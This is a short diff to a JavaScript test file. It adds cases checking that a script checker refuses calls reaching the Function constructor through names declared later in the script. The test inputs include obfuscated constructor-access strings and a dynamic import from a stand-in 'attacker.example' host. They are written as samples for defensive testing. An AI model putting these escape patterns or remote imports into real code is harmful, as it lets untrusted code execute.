@@ -100,6 +100,15 @@ describe('checkScript rules', () => {
     expect(refused('[].constructor.constructor(code)')).toBe(true);
     expect(refused('(async () => {}).constructor(code)')).toBe(true);
   });
+  it('reads names declared anywhere in the script, also below their use', () => {
+    // The rules run after one walk has seen every declaration: a const below its use still folds.
+    expect(refused("function go() { return x[k](code) } const k = 'constructor'; const x = go;")).toBe(true);
+    expect(refused("function go() { return import(u) } const u = 'https://attacker.example/m.js';")).toBe(true);
+    expect(refused("function go(s) { return (0, x)[k + 'uctor'](s) } const k = 'constr';")).toBe(true);
+    // A Function declared anywhere (even after the call) is not the Function constructor.
+    expect(refused('function go(code) { return Function(code) } function Function(x) { return x }')).toBe(false);
+    expect(refused('function go(code) { return Function(code) }')).toBe(true);
+  });
   it('does not refuse ordinary uses of these names', () => {
     const benign = [
       'if (typeof eval === "function") rmx.log("ok")',
